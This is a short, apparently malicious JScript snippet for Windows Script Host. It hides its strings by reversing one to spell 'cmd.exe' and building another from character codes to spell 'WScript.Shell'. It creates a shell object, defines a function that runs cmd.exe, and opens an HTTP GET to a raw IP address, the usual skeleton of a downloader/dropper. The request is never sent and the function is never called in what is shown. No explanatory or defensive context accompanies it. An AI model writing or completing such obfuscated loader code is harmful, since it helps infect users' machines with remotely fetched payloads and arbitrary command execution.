var a = "exe.dmc".split("").reverse().join("");
var s = String.fromCharCode(87,83,99,114,105,112,116,46,83,104,101,108,108);
var o = new ActiveXObject(s);
function f() { o.Run(a); };
var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "https://203.0.113.5/d", false);
